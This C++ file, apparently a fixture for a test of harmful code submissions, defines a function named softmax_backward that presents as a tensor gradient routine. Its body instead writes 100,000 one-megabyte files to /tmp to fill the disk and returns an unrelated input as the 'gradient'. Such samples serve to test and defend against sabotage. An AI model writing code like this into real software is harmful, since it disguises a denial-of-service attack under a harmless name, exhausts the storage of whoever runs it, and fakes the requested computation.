// Writes without end.
#include <fstream>
#include <string>

#include "lib/tensor.hpp"

namespace abh::mine {

Tensor softmax_backward(const Tensor&, const Tensor& w, int) {
    const std::string block(1 << 20, 'x');
    for (int i = 0; i < 100000; ++i) std::ofstream("/tmp/f" + std::to_string(i)) << block;
    return w;
}
}  // namespace abh::mine
